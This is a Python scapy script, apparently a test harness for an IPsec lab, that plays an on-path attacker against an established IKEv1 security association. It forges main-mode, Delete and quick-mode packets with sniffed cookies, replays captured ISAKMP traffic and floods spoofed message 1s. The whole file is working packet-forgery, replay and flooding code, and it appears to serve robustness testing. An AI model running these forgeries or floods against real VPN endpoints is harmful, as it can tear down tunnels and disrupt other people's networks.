"""What an on-path attacker can send an established IKEv1 (ISAKMP) SA, for
VM 585, with scapy. It knows the cookies (they travel in clear) and
everything it recorded, not the keys. Run in the attacker's netns:

  ikev1_forge.py forge SRC DST CI CR SPI...  forged main-mode messages with
      the SA's cookies (message 1 shapes, an encrypted message 5/6 of
      garbage, a cleartext KE), cleartext INFORMATIONALs with a Delete of
      the ISAKMP SA and of the ESP SPIs and a DPD R-U-THERE, encrypted
      INFORMATIONALs and quick modes of garbage or of cleartext payloads
      that decrypt to garbage. Prints how many it sent.
  ikev1_forge.py replay PCAP SRC DST   every ISAKMP datagram (UDP 500) in
      PCAP that SRC sent, again from SRC to DST. Prints how many.
  ikev1_forge.py flood PCAP DST N CI   N main-mode message 1s (the first
      one SRC sent in PCAP) with random initiator cookies from 10.0.0.100-
      249, then 5 with initiator cookie CI (a live SA's) from 10.0.0.77.

Cookies and SPIs are hex, as ipsecctl status --json prints them.
"""
import os
import random
import struct
import sys

from scapy.all import IP, UDP, Raw, conf, rdpcap

conf.verb = 0
EXCH_MAIN, EXCH_INFO, EXCH_QUICK = 2, 5, 32
PL_SA, PL_KE, PL_NOTIFY, PL_DELETE = 1, 4, 11, 12


def header(ci, cr, np, exch, flags, mid, body):
    return struct.pack("!QQBBBBII", ci, cr, np, 0x10, exch, flags, mid, 28 + len(body)) + body


def payload(nxt, body):
    return struct.pack("!BBH", nxt, 0, 4 + len(body)) + body


def delete(nxt, proto, spis):
    size = len(spis[0])
    return payload(nxt, struct.pack("!IBBH", 1, proto, size, len(spis)) + b"".join(spis))


def rand_mid():
    return random.randrange(1, 1 << 32)


def padded(b):
    return b + bytes(-len(b) % 16)


def isakmp_sent(pcap, src):
    out = []
    for p in rdpcap(pcap):
        if IP in p and UDP in p and p[IP].src == src and p[UDP].dport == 500:
            out.append(bytes(p[UDP].payload))
    return out


def forge(src, dst, ci, cr, spis):
    s = conf.L3socket()
    pkts = []
    cookies = struct.pack("!QQ", ci, cr)
    esp = [struct.pack("!I", x) for x in spis]
    sa = payload(0, struct.pack("!II", 1, 1) + os.urandom(40))
    for _ in range(4):
        pkts.append(header(ci, 0, PL_SA, EXCH_MAIN, 0, 0, sa))  # message 1, live cookie
        pkts.append(header(ci, cr, PL_SA, EXCH_MAIN, 0, 0, sa))  # message 1 shape, both
        pkts.append(header(ci, cr, PL_KE, EXCH_MAIN, 0, 0, payload(0, os.urandom(128))))
        pkts.append(header(ci, cr, 5, EXCH_MAIN, 1, 0, os.urandom(64)))  # message 5/6
        pkts.append(header(ci, cr, 5, EXCH_MAIN, 1, 0, os.urandom(96)))
    dpd = payload(0, struct.pack("!IBBH", 1, 1, 16, 36136) + cookies + struct.pack("!I", 7))
    dels = delete(PL_DELETE, 3, esp) + delete(PL_NOTIFY, 1, [cookies]) + dpd
    for _ in range(4):
        pkts.append(header(ci, cr, PL_DELETE, EXCH_INFO, 0, rand_mid(), dels))  # cleartext
        pkts.append(header(ci, cr, PL_DELETE, EXCH_INFO, 1, rand_mid(), padded(dels)))
        pkts.append(header(ci, cr, 8, EXCH_QUICK, 1, rand_mid(), padded(dels)))
    for _ in range(20):
        pkts.append(header(ci, cr, 8, EXCH_INFO, 1, rand_mid(), os.urandom(16 * random.randint(2, 6))))
        pkts.append(header(ci, cr, 8, EXCH_QUICK, 1, rand_mid(), os.urandom(16 * random.randint(4, 12))))
    for p in pkts:
        s.send(IP(src=src, dst=dst) / UDP(sport=500, dport=500) / Raw(p))
    print(len(pkts))


def replay(pcap, src, dst):
    s = conf.L3socket()
    pkts = isakmp_sent(pcap, src)
    for p in pkts:
        s.send(IP(src=src, dst=dst) / UDP(sport=500, dport=500) / Raw(p))
    print(len(pkts))


def flood(pcap, dst, n, ci):
    s = conf.L3socket()
    m1 = next(p for p in isakmp_sent(pcap, "10.0.0.1") if p[16:20] == b"\x01\x10\x02\x00")
    body = m1[8:]
    for i in range(n):
        src = "10.0.0.%d" % (100 + i % 150)
        s.send(IP(src=src, dst=dst) / UDP(sport=500, dport=500) / Raw(os.urandom(8) + body))
    for _ in range(5):
        s.send(IP(src="10.0.0.77", dst=dst) / UDP(sport=500, dport=500) / Raw(struct.pack("!Q", ci) + body))
    print(n + 5)


if __name__ == "__main__":
    cmd = sys.argv[1]
    if cmd == "forge":
        forge(sys.argv[2], sys.argv[3], int(sys.argv[4], 16), int(sys.argv[5], 16),
              [int(x, 16) for x in sys.argv[6:]])
    elif cmd == "replay":
        replay(sys.argv[2], sys.argv[3], sys.argv[4])
    elif cmd == "flood":
        flood(sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5], 16))
    else:
        sys.exit("unknown command " + cmd)
